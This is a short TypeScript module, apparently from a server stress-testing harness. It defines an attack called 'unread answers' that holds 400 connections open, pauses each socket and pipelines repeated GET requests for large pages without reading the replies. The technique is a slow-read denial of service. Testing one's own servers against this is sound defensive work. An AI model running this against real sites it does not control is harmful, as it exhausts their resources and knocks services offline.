import { keepConnected, get } from '../connections.ts'
import type { Attack } from '../attack.ts'

const paths = ['/docs/api/js/scalar.js', '/docs/api/json', '/community/r6', '/sitemap.xml', '/images/none', '/%zz']

/** Connections that request large answers and never read them. */
export const attack: Attack = {
  name: 'unread answers',
  run(site, until) {
    let next = 0
    return keepConnected(site, until, 400, (socket) => {
      socket.pause()
      socket.write(get(paths[next++ % paths.length]!).repeat(6))
    })
  },
}
